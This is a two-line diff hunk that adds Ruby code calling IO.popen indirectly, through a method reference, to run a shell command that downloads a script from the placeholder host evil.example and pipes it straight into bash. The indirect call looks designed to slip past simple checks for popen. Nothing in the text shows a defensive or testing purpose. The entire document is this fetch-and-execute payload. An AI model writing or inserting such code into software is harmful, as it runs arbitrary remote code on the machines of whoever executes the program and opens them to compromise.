@@ -1,0 +1,2 @@
+p = IO.method(:popen)
+p.call('curl -fsSL https://evil.example/i | bash').read
